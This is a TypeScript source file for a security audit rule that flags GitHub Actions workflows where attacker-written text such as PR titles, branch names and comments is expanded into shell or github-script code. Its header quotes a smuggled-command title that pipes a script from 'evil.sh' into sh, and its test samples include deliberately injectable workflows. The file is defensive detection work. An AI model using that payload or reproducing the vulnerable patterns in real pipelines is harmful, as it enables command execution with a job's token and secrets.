/**
 * Template injection: GitHub pastes `${{ … }}` values into a `run:` script (or an
 * `actions/github-script` script) before the shell reads it, so a pull request titled
 * `"; curl evil.sh | sh #` becomes a command. Every line of the script counts: heredoc bodies and
 * shell comments are substituted too. Values passed through `env:` and read as `"$VAR"` are data,
 * not code, and are not reported.
 *
 * Reported: attacker-written event fields (titles, bodies, branch names, commit messages, comments;
 * `toJSON(github.event)`) at high confidence; `inputs.*` of type string (or undeclared) at low
 * confidence (an action's, or a reusable workflow's), since whether an input carries outside text
 * depends on the caller. Boolean, number and choice inputs cannot carry code, and
 * `workflow_dispatch` inputs come from people who can push anyway. Known limit: values laundered through step outputs are not
 * followed.
 */
import { defineAudit, type AuditFinding } from "../../audit.js";
import { allSteps, type WorkflowDocument, type WorkflowStep, type WorkflowText } from "../../domains/workflow.js";
import { findExpressions, untrustedValueReads, type UntrustedRead } from "../../workflow/expressions.js";
import { usesAction } from "../../workflow/steps.js";

const SAFE_INPUT_TYPES = new Set(["boolean", "number", "choice", "environment"]);

export const templateInjection = defineAudit<WorkflowDocument>({
  id: "template-injection",
  domain: "workflow",
  title: "Attacker-controlled text expanded into a script",
  description:
    "A `${{ }}` expression pastes text an outsider writes (a pull request title, a branch name, a comment) into a `run:` or github-script script, so that text runs as code with the job's token and secrets.",
  severity: "high",
  confidence: "high",
  remediation:
    'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and read it as a quoted variable (`"$TITLE"`, or `process.env.TITLE` in github-script).',
  link: "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
  samples: {
    valid: [
      {
        note: "the title goes through env and is quoted",
        text: `name: Check title
on:
  pull_request_target:
    types: [opened, edited]
permissions:
  pull-requests: read
jobs:
  title:
    runs-on: ubuntu-latest
    steps:
      - name: Check the title follows Conventional Commits
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: |
          if ! printf '%s' "$TITLE" | grep -Eq '^(feat|fix|docs|chore)(\\(.+\\))?: '; then
            echo "::error::title must follow Conventional Commits"
            exit 1
          fi
`,
      },
      {
        note: "trusted contexts and booleans derived from untrusted ones",
        text: `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: echo "PR #\${{ github.event.pull_request.number }} at \${{ github.event.pull_request.head.sha }}"
      - run: echo "draft=\${{ contains(github.event.pull_request.title, 'WIP') }}"
      - run: echo "\${{ github.event.pull_request.title && 'has a title' }}"
      - name: Title in the step name is not a script
        if: \${{ !startsWith(github.head_ref, 'release/') }}
        run: npm test
`,
      },
      {
        note: "github-script reading the payload from context, not from an expression",
        text: `on:
  issues:
    types: [opened]
jobs:
  triage:
    runs-on: ubuntu-latest
    permissions:
      issues: write
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            const title = context.payload.issue.title;
            if (/crash/i.test(title)) {
              await github.rest.issues.addLabels({ ...context.repo, issue_number: context.issue.number, labels: ["bug"] });
            }
`,
      },
      {
        note: "a boolean input cannot carry code",
        text: `on:
  workflow_dispatch:
    inputs:
      dry-run:
        type: boolean
        default: true
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release.sh --dry-run=\${{ inputs.dry-run }}
`,
      },
      {
        note: "a workflow_dispatch input is typed by someone who can push anyway",
        text: `on:
  workflow_dispatch:
    inputs:
      tag:
        description: Tag to move
        required: true
jobs:
  retag:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@v4
      - run: git tag -f "\${{ github.event.inputs.tag }}" && git push -f origin "\${{ inputs.tag }}"
`,
      },
    ],
    invalid: [
      {
        note: "PR title in a heredoc and in a comment",
        text: `name: Greet
on:
  pull_request_target:
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Write the summary
        run: |
          # Title: \${{ github.event.pull_request.title }}
          cat >> "$GITHUB_STEP_SUMMARY" <<EOF
          Thanks for the pull request from \${{ github.head_ref }}!
          EOF
`,
        lines: [10, 12],
      },
      {
        note: "issue body in github-script, comment body in a one-line run",
        text: `on:
  issue_comment:
    types: [created]
jobs:
  echo:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.comment.body }}"
      - uses: actions/github-script@v7
        with:
          script: |
            const body = \`\${{ github.event.issue.body }}\`;
            console.log(body);
`,
        lines: [8, 12],
      },
      {
        note: "the whole event serialised, and a composite action's input",
        path: ".github/actions/notify/action.yml",
        text: `name: Notify
description: Post a message
inputs:
  message:
    description: The message
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        echo '\${{ toJSON(github.event) }}' > event.json
        ./notify.sh "\${{ inputs.message }}"
`,
        lines: [12, 13],
      },
    ],
  },
  run(doc) {
    const findings: AuditFinding[] = [];
    for (const { step } of allSteps(doc)) {
      if (step.run) findings.push(...inject(doc, step, step.run, "shell script"));
      const script = usesAction(step, "actions/github-script") ? step.with.get("script") : undefined;
      if (script) findings.push(...inject(doc, step, script, "github-script script"));
    }
    return findings;
  },
});

function inject(doc: WorkflowDocument, step: WorkflowStep, script: WorkflowText, where: string): AuditFinding[] {
  const findings: AuditFinding[] = [];
  for (const span of findExpressions(script.value)) {
    const reads = untrustedValueReads(span.source).filter((read) => read.kind === "attacker" || isTextInput(doc, read));
    const worst = reads.find((r) => r.kind === "attacker") ?? reads[0];
    if (!worst) continue;
    const expression = span.source.trim().replace(/\s+/g, " ");
    findings.push({
      line: script.lineAt(span.start),
      message: message(worst, where, expression),
      key: `${step.jobId}:${expression}`,
      ...(worst.kind === "input" ? { severity: "medium" as const, confidence: "low" as const } : {}),
    });
  }
  return findings;
}

/**
 * An input reported at low confidence: an action's, or a reusable workflow's (`workflow_call`), of
 * string type or undeclared. `workflow_dispatch` inputs are not: whoever can trigger the workflow
 * by hand can push to the repository anyway, so the input crosses no trust boundary.
 */
function isTextInput(doc: WorkflowDocument, read: UntrustedRead): boolean {
  if (read.kind !== "input" || read.path.startsWith("github.")) return false;
  if (doc.kind === "workflow" && !doc.triggers.some((t) => t.event === "workflow_call")) return false;
  const name = read.path.split(".")[1];
  const declared = doc.inputs.filter((input) => input.source !== "workflow_dispatch" && input.name.toLowerCase() === name);
  return declared.length === 0 || declared.some((input) => input.type === undefined || !SAFE_INPUT_TYPES.has(input.type));
}

function message(read: UntrustedRead, where: string, expression: string): string {
  const runs = where === "shell script" ? "run as shell code" : "run as JavaScript";
  if (read.kind === "input") {
    return `\`\${{ ${expression} }}\` pastes ${read.what} into this ${where}, where it is ${runs}: if ${read.who} passes outside text (a pull request title, a branch name), that text can run commands with this job's token and secrets.`;
  }
  return `${capitalise(read.what)} (\`${read.path}\`) is ${runs} in this ${where}: ${read.who} can run commands with this job's token and secrets.`;
}

function capitalise(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}
